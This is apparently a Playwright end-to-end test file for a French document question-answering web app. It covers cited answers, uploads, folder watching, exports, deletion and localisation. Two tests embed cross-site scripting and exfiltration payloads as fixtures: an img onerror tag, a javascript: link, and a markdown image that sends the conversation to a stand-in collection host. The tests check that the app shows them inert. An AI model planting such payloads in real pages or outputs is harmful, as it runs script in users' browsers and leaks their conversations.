"""End to end in a real browser: Debian's Chromium driven by Playwright against the running app."""

from __future__ import annotations

import os
import shutil

import pytest
from helpers import ARTIFACTS

pytestmark = [pytest.mark.browser, pytest.mark.model]

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]


@pytest.fixture(scope="module")
def page(app_server):
    if not os.path.exists(CHROMIUM):
        if os.environ.get("CI"):
            pytest.fail("chromium is not installed: .ci/run installs Debian's chromium")
        pytest.skip("chromium is not installed (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        page = browser.new_page(viewport={"width": 1400, "height": 950}, locale="fr-FR")
        page.set_default_timeout(90_000)
        page.goto(app_server[0])
        yield page
        browser.close()


def ask(page, question: str) -> None:
    page.get_by_role("tab", name="Questions", exact=True).click()
    page.fill("#question textarea", question)
    page.click("#ask")


def test_question_gets_a_cited_answer_whose_marker_opens_its_source(page):
    page.get_by_text("Où s'est tenu le barcamp Futurs Publics en 2016 ?").click()  # an example question
    page.wait_for_function("document.querySelector('#question textarea').value.includes('barcamp')")
    page.wait_for_timeout(500)  # the example's value reaches the app
    page.click("#ask")
    marker = page.locator("#chat a.cite").first
    marker.wait_for()
    # the markers show as the answer streams; the badge comes with its last update
    page.locator("#chat .status").first.wait_for()
    assert page.locator("#chat").get_by_text("D'après les documents").count() >= 1
    assert page.locator("#chat .status-answered").count() == 1  # the badge says at a glance: answered
    marker.click()
    selected = page.locator("#sources .source.selected")
    selected.wait_for()
    assert "Gaité lyrique" in selected.inner_text()
    assert selected.locator("mark").count() >= 1
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "answer.png"))


def test_upload_rebuild_then_ask_about_the_new_document_shown_as_text(page, tmp_path):
    document = tmp_path / "labo-ouvert.txt"
    document.write_text(
        "Le laboratoire Zéphyrine accompagne les mairies rurales depuis 2022.\n"
        'Son rapport mentionne la balise <img src=x onerror="window.__pwned=1"> telle quelle.\n',
        encoding="utf-8",
    )
    page.get_by_role("tab", name="Documents").click()
    page.locator("#upload input[type=file]").set_input_files(str(document))
    page.wait_for_timeout(1000)
    page.click("#add")
    page.locator("#status").get_by_text("labo-ouvert.txt").wait_for()
    page.click("#rebuild")
    page.locator("#status").get_by_text("ajoutés : 1").wait_for()
    assert page.locator("#documents").get_by_text("labo-ouvert.txt").count() >= 1

    ask(page, "Quelles mairies le laboratoire Zéphyrine accompagne-t-il ?")
    page.locator("#sources").get_by_text("labo-ouvert.txt").first.wait_for()
    ask(page, "Que mentionne le rapport du laboratoire Zéphyrine sur la balise img ?")
    page.locator("#sources details[open]").get_by_text("onerror", exact=False).first.wait_for()
    assert page.locator("#sources img").count() == 0
    assert page.locator("#chat img[src=x]").count() == 0
    assert page.evaluate("window.__pwned") is None


def test_language_model_markup_is_shown_inert_and_fetches_nothing(page, app_server):
    from helpers import FakeChatServer, free_port

    from assistant.ui import App, launch

    reply = (
        "Le barcamp s'est tenu à la Gaité lyrique [1]. "
        "![](https://collecte.example/pixel.png?q=conversation) "
        "[cliquez ici](javascript:window.__pwned=1) <img src=https://collecte.example/x.png onerror=window.__pwned=2>"
    )
    model = FakeChatServer(reply)
    port = free_port()
    settings = app_server[1].with_(llm_url=model.url, llm_model="tiny", read_only="1")
    demo = launch(App(settings), "127.0.0.1", port, block=False)
    outside = []
    other = page.context.browser.new_page(locale="fr-FR")
    try:
        other.set_default_timeout(90_000)
        other.on("request", lambda request: outside.append(request.url) if "127.0.0.1" not in request.url else None)
        other.goto(f"http://127.0.0.1:{port}/")
        other.fill("#question textarea", "Où s'est tenu le barcamp Futurs Publics en 2016 ?")
        other.click("#ask")
        other.locator("#chat").get_by_text("Gaité lyrique").first.wait_for()
        other.locator("#chat a.cite").first.wait_for()
        other.wait_for_timeout(1500)
        assert other.locator("#chat img").count() == 0
        assert other.locator("#chat a[href^='javascript']").count() == 0
        assert other.locator("#chat a:not(.cite)").count() == 0  # the only links are our markers
        assert other.evaluate("window.__pwned") is None
    finally:
        other.close()
        demo.close()
        model.close()
    assert outside == []


def test_a_question_that_stands_alone_is_answered_after_another_and_a_contradicted_claim_is_not_green(page, app_server):
    from helpers import FakeChatServer, free_port

    from assistant.ui import App, launch

    page.get_by_role("tab", name="Questions", exact=True).click()
    page.click("#clear")
    page.wait_for_function("!document.querySelector('#chat .status')")
    ask(page, "Bonjour !")  # greets: a reply, no passages to point to, no badge saying nothing was found
    page.locator("#chat").get_by_text("Posez une question sur les documents").wait_for()
    assert page.locator("#chat").get_by_text("passages les plus proches").count() == 0
    assert page.locator("#chat .status").count() == 0
    assert page.locator("#sources .source").count() == 0
    ask(page, "Quelle est la capitale du Canada ?")  # not found: the closest passages are where the page shows them
    page.locator("#chat .status").first.wait_for()
    assert page.locator("#chat").get_by_text("Les passages les plus proches sont à droite.").count() == 1
    assert page.locator("#chat").get_by_text("ci-dessous").count() == 0 and page.locator("#sources .source").count()
    ask(page, "Où s'est tenu le barcamp Futurs Publics ?")
    page.locator("#chat .status-answered").first.wait_for()
    ask(page, "Qu'est-ce que FP21 ?")  # stands alone: answered, not read as a question about the barcamp
    page.locator("#chat .status").nth(2).wait_for()
    assert page.locator("#chat .status-answered").count() == 2
    assert page.locator("#chat").get_by_text("FP21").count()

    model = FakeChatServer(
        "Le barcamp Futurs Publics s'est tenu à la Gaité lyrique à Paris [1]. "
        "Il s'est tenu à Marseille le 17 novembre [1]."
    )
    port = free_port()
    demo = launch(App(app_server[1].with_(llm_url=model.url, llm_model="tiny")), "127.0.0.1", port, block=False)
    other = page.context.browser.new_page(locale="fr-FR")
    try:
        other.set_default_timeout(90_000)
        other.goto(f"http://127.0.0.1:{port}/")
        other.fill("#question textarea", "Où s'est tenu le barcamp Futurs Publics en 2016 ?")
        other.click("#ask")
        flag = other.locator("#chat").get_by_text("non étayé par la source citée", exact=False).first
        flag.wait_for()
        other.locator("#chat .status-partial").first.wait_for()
        assert other.locator("#chat .status-answered").count() == 0
        # one marker in the text, one in the line of sources: the contradicted claim points to no source
        assert other.locator("#chat a.cite").count() == 2
        assert "Marseille le 17 novembre. (non étayé" in " ".join(other.locator("#chat").inner_text().split())
        other.locator("#chat a.cite").first.click()
        highlighted = other.locator("#sources mark").first
        highlighted.wait_for()
        assert "Gaité lyrique" in highlighted.inner_text()  # the marker opens what states the claim
    finally:
        other.close()
        demo.close()
        model.close()


@pytest.fixture(scope="module")
def watched_app(page, app_server, tmp_path_factory):
    """A second app on a copy of the first one's corpus and index, watching its corpus folder: (page, settings)."""
    from helpers import free_port

    from assistant.ui import App, launch

    root = tmp_path_factory.mktemp("watched")
    settings = app_server[1].with_(corpus_dir=root / "corpus", index_dir=root / "index", watch_quiet=0.5)
    shutil.copytree(app_server[1].corpus_dir, settings.corpus_dir)
    shutil.copytree(app_server[1].index_dir, settings.index_dir, ignore=shutil.ignore_patterns(".lock"))
    app = App(settings)
    app.refresh_index()
    app.start_watching()
    port = free_port()
    demo = launch(app, "127.0.0.1", port, block=False)
    other = page.context.browser.new_page(
        viewport={"width": 1400, "height": 950}, accept_downloads=True, locale="fr-FR"
    )
    other.set_default_timeout(90_000)
    other.goto(f"http://127.0.0.1:{port}/")
    yield other, settings
    other.close()
    app.watcher.stop()
    demo.close()


def ask_until(page, question: str, expected: str, tries: int = 20) -> None:
    """Ask again until the sources show ``expected`` (the watcher may still be building)."""
    for _ in range(tries):
        ask(page, question)
        page.wait_for_timeout(2500)
        if page.locator("#sources details[open]").get_by_text(expected, exact=False).count():
            return
    raise AssertionError(f"{expected!r} never appeared in the sources")


def test_a_file_dropped_in_the_folder_is_answered_then_opened_at_its_pdf_page(watched_app):
    from helpers import make_pdf

    page, settings = watched_app
    make_pdf(
        settings.corpus_dir / "rapport-bleu.pdf",
        ["Rapport du laboratoire Bleu, sommaire.", "Le laboratoire Bleu a ouvert une antenne à Millau en 2022."],
        title="Rapport du laboratoire Bleu",
    )
    ask_until(page, "Où le laboratoire Bleu a-t-il ouvert une antenne ?", "rapport-bleu.pdf")
    opener = page.locator("#sources details[open] button.open-original").first
    assert "p. 2" in opener.inner_text()
    opener.click()
    page.locator("#original-where").get_by_text("page 2").wait_for()
    page.locator("#original-page img").wait_for()
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "original-page.png"))


def test_conversation_survives_a_reload_exports_and_clears(watched_app, tmp_path):
    import json

    page, _ = watched_app
    ask(page, "Combien de membres compte le Forum des Jeunes ?")
    page.locator("#chat .status-answered").last.wait_for()  # the final answer, which is kept in the browser
    page.wait_for_timeout(1000)
    page.reload()
    page.locator("#chat").get_by_text("Forum des Jeunes").first.wait_for()  # kept in the browser
    page.locator("#sources details").first.wait_for()
    page.click("#export-json")
    with page.expect_download() as download:
        page.locator("#exported a").first.click()
    exported = json.loads((download.value.path()).read_text(encoding="utf-8"))
    turn = exported["turns"][-1]
    assert turn["question"].startswith("Combien de membres") and turn["status"] == "answered"
    citation = turn["citations"][0]
    assert citation["quote"] and len(citation["document_hash"]) == 64 and citation["index_generation"]
    page.click("#export-md")
    with page.expect_download() as download:
        page.locator("#exported a").first.click()
    markdown = download.value.path().read_text(encoding="utf-8")
    assert "Combien de membres" in markdown and "[1]" in markdown and markdown.startswith("# Questions aux documents")
    page.click("#clear")
    page.wait_for_timeout(1000)
    page.reload()
    page.wait_for_timeout(2000)
    assert page.locator("#chat").get_by_text("Forum des Jeunes").count() == 0


def test_the_first_start_opens_at_once_shows_the_build_and_answers_after_it(page, tmp_path):
    import threading

    from helpers import DEFAULT_CORPUS, free_port

    from assistant.settings import Settings
    from assistant.ui import App, launch

    shutil.copytree(DEFAULT_CORPUS, tmp_path / "corpus")
    app = App(Settings(corpus_dir=tmp_path / "corpus", index_dir=tmp_path / "index", watch="0"))
    port = free_port()
    running = launch(app, "127.0.0.1", port, block=False)  # as serve() does: the page first, then the build
    builder = threading.Thread(target=app.refresh_index)
    builder.start()
    other = page.context.browser.new_page(locale="fr-FR")
    try:
        other.set_default_timeout(120_000)
        other.goto(f"http://127.0.0.1:{port}/")
        other.locator("#first-build").get_by_text("Première construction de l'index").wait_for()
        builder.join()
        other.wait_for_function("!document.querySelector('#first-build').innerText.includes('Première')")
        other.fill("#question textarea", "Où s'est tenu le barcamp Futurs Publics en 2016 ?")
        other.click("#ask")
        other.locator("#chat a.cite").first.wait_for()
    finally:
        other.close()
        running.close()


def test_a_delete_asks_to_confirm_and_the_document_can_be_restored(page, app_server):
    _, settings = app_server
    name = "innovation-participative-ministeres-entreprises-2014.txt"
    page.get_by_role("tab", name="Documents").click()
    page.locator("#chosen input").fill(name)
    page.locator("#chosen input").press("Enter")
    page.click("#delete")
    page.locator("#confirm-question").get_by_text(name).wait_for()  # asks, naming the file
    assert (settings.corpus_dir / name).is_file()  # nothing deleted before the confirmation
    page.click("#confirm")
    page.locator("#status").get_by_text("mis à la corbeille").wait_for()
    assert not (settings.corpus_dir / name).exists()
    page.locator("#trash input").click()
    page.get_by_role("option", name=name, exact=False).first.click()
    page.click("#restore")
    page.locator("#status").get_by_text("restauré").wait_for()
    assert (settings.corpus_dir / name).is_file()


def test_feedback_and_the_report_of_questions_the_documents_do_not_answer(page, app_server):
    settings = app_server[1]
    ask(page, "Où s'est tenu le barcamp Futurs Publics en 2016 ?")
    page.locator("#chat .status-answered").last.wait_for()
    page.wait_for_function("document.querySelector('#chat').innerText.includes('Gaité lyrique')")
    page.locator("#wrong-citation").get_by_text("[1]").click()
    page.fill("#feedback-comment textarea", "La salle citée n'est pas la bonne")
    page.click("#feedback-down")
    page.locator("#feedback-note").get_by_text("signalée comme fausse").wait_for()

    paraphrases = [
        "Quel est le budget annuel du laboratoire Orchidée de Rennes ?",
        "Quel est le budget annuel du laboratoire Orchidée à Rennes ?",
        "Quel budget annuel pour le laboratoire Orchidée de Rennes ?",
    ]
    for number, question in enumerate(paraphrases, start=1):
        ask(page, question)
        page.wait_for_function(
            f"document.querySelectorAll('#chat .status-not_found').length >= {number}", timeout=90_000
        )

    page.get_by_role("tab", name="Questions sans réponse").click()
    page.click("#gaps-refresh")
    report = page.locator("#gaps")
    report.get_by_text("La salle citée n'est pas la bonne", exact=False).wait_for()
    group = report.locator("h2", has_text="Orchidée")
    assert group.count() == 1  # three paraphrases, one group
    assert "posée 3 fois (3 formulations)" in report.inner_text()
    assert "ouvert" in group.locator("xpath=following-sibling::p[1]").inner_text()

    (settings.corpus_dir / "orchidee.txt").write_text(
        "Le laboratoire Orchidée\n\nLe laboratoire Orchidée de Rennes dispose d'un budget annuel de 320 000 euros,"
        " voté chaque année par le conseil municipal.\n",
        encoding="utf-8",
    )
    page.get_by_role("tab", name="Documents").click()
    page.click("#rebuild")
    page.locator("#documents").get_by_text("orchidee.txt").wait_for()
    page.get_by_role("tab", name="Questions sans réponse").click()
    answered = (
        "[...document.querySelectorAll('#gaps h2')].some(h => h.innerText.includes('Orchidée')"
        " && h.nextElementSibling.innerText.includes('répondu depuis'))"
    )
    for _ in range(30):  # the build asks the open questions again once the new index is in place
        page.click("#gaps-refresh")
        page.wait_for_timeout(1000)
        if page.evaluate(answered):
            break
    assert page.evaluate(answered)
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "gaps.png"))


# Words a French page must not show: English function words and the words of Gradio's and our own controls.
ENGLISH = set(
    "the an is are was were what which who how why where when of in for with by to and or does has have it its this"
    " that these those their there many much from your you be will not no yes please here after before"
    " submit clear upload drop click loading error settings built using file files indexed scanning"
    " sentences embedding chunks added updated removed unchanged failed stop search login username password"
    " rebuild delete restore export answer answers question questions source sources page open original".split()
) - {"question", "questions", "source", "sources", "page", "original", "export"}  # French words too


def english_words(text: str) -> list[str]:
    import re

    return sorted({word for word in re.findall(r"[a-z]+", text.lower()) if word in ENGLISH})


def test_the_french_page_and_its_login_show_no_english_word(page, app_server, tmp_path):
    from helpers import free_port

    from assistant.ui import App, launch

    users = tmp_path / "users.txt"
    users.write_text("alice:motdepasse\n", encoding="utf-8")
    guarded = launch(App(app_server[1].with_(auth=str(users), watch="0", login_delay=0)), port=free_port(), block=False)
    context = page.context.browser.new_context(locale="fr-FR", viewport={"width": 1400, "height": 950})
    french = context.new_page()
    seen: dict[str, list[str]] = {}
    try:
        french.set_default_timeout(90_000)
        french.goto(guarded.url)
        french.locator("input[type=password]").wait_for()
        seen["login"] = english_words(french.inner_text("body"))
        french.locator("input[type=text]").first.fill("alice")
        french.fill("input[type=password]", "motdepasse")
        french.keyboard.press("Enter")
        french.locator("#question textarea").wait_for()
        ask(french, "Où s'est tenu le barcamp Futurs Publics en 2016 ?")
        french.locator("#chat .status-answered").last.wait_for()
        french.locator("#sources button.open-original").first.click()
        french.locator("#original-where mark").wait_for()
        seen["questions"] = english_words(french.inner_text("body"))
        french.get_by_role("tab", name="Documents").click()
        french.locator("#documents").wait_for()
        french.click("#rebuild")
        french.locator("#status").get_by_text("passages").wait_for()
        seen["documents"] = english_words(french.inner_text("body"))
        french.get_by_role("tab", name="Questions sans réponse").click()
        french.click("#gaps-refresh")
        french.locator("#gaps h1").wait_for()
        seen["gaps"] = english_words(french.inner_text("body"))
    finally:
        context.close()
        guarded.close()
    assert seen == {"login": [], "questions": [], "documents": [], "gaps": []}


def test_a_browser_that_asks_for_english_gets_the_page_in_english(page, app_server):
    english = page.context.browser.new_page(viewport={"width": 1400, "height": 950}, locale="en-GB")
    try:
        english.set_default_timeout(90_000)
        english.goto(app_server[0])
        english.get_by_role("tab", name="Unanswered questions").wait_for()
        english.fill("#question textarea", "Where was the Futurs Publics barcamp held in 2016?")
        english.click("#ask")
        english.locator("#chat .status-answered, #chat .status-not_found").last.wait_for()
        text = english.inner_text("body")
        english.get_by_role("tab", name="Documents").click()
        english.locator("#index-status").get_by_text("Index:").wait_for()
        text += english.inner_text("body")
    finally:
        english.close()
    for words in ("Ask", "Your view of the last answer", "Rebuild the index", "Document to delete", "State"):
        assert words in text
    for french in ("Demander", "Votre avis", "Reconstruire", "Corbeille", "construit le"):
        assert french not in text


def test_a_read_only_server_shows_no_upload_and_refuses_one_sent_anyway(page, app_server):
    from helpers import free_port

    from assistant.ui import App, launch

    running = launch(App(app_server[1].with_(read_only="1", watch="0")), port=free_port(), block=False)
    other = page.context.browser.new_page(viewport={"width": 1400, "height": 950}, locale="fr-FR")
    try:
        other.set_default_timeout(90_000)
        other.goto(running.url)
        other.get_by_role("tab", name="Documents").click()
        other.locator("#documents").get_by_text("barcamp-futurs-publics-2016.txt").wait_for()
        assert other.locator("#upload").count() == 0 and other.locator("#delete").count() == 0
        assert other.get_by_role("tab", name="Questions sans réponse").count() == 0  # nobody logs in: not shown
        header = other.locator("#documents").get_by_text("État", exact=True).first
        assert header.is_visible() and header.bounding_box()["x"] + 20 < 1400  # every column in view
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        other.screenshot(path=str(ARTIFACTS / "documents.png"))
        sent = other.request.post(
            running.url + "gradio_api/upload",
            multipart={"files": {"name": "a.txt", "mimeType": "text/plain", "buffer": b"x" * 1000}},
        )
        assert sent.status == 403
    finally:
        other.close()
        running.close()


@pytest.mark.skipif(shutil.which("tesseract") is None, reason="tesseract-ocr is not installed")
def test_scanned_and_text_pdfs_are_answered_and_open_with_the_quote_marked(page, app_server):
    import re

    from helpers import make_pdf, make_scanned_pdf

    settings = app_server[1]
    scanned = "La brigade Hermine a inspecté quarante-deux ponts communaux en 2023."
    text = "Le bilan Azurite recense dix-neuf ateliers citoyens organisés en 2022."
    make_scanned_pdf(settings.corpus_dir / "inspection-scannee.pdf", ["Rapport d'inspection\n" + scanned])
    make_pdf(settings.corpus_dir / "bilan-azurite.pdf", ["Bilan annuel.\n" + text + "\nFin du bilan."])
    page.get_by_role("tab", name="Documents").click()
    page.click("#rebuild")
    page.locator("#documents").get_by_text("inspection-scannee.pdf").wait_for()
    page.locator("#documents").get_by_text("bilan-azurite.pdf").wait_for()
    for question, quote, source in (
        ("Combien de ponts communaux la brigade Hermine a-t-elle inspectés ?", scanned, "inspection-scannee.pdf"),
        ("Combien d'ateliers citoyens le bilan Azurite recense-t-il ?", text, "bilan-azurite.pdf"),
    ):
        answers = page.locator("#chat .status-answered").count()
        ask(page, question)
        page.wait_for_function(f"document.querySelectorAll('#chat .status-answered').length > {answers}")
        assert quote in page.locator("#chat").inner_text()
        opener = page.locator("#sources details[open] button.open-original").first
        assert "p. 1" in opener.inner_text()
        opener.click()
        image = page.locator("#original-page img")
        page.wait_for_function(
            "(document.querySelector('#original-page img') || {}).src"
            f" && document.querySelector('#original-where').innerText.includes('{source}')"
        )
        assert re.search(r"-p1-[0-9a-f]{12}-[0-9a-f]{12}\.png", image.get_attribute("src")), source  # marked copy
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "scanned-quote.png"))
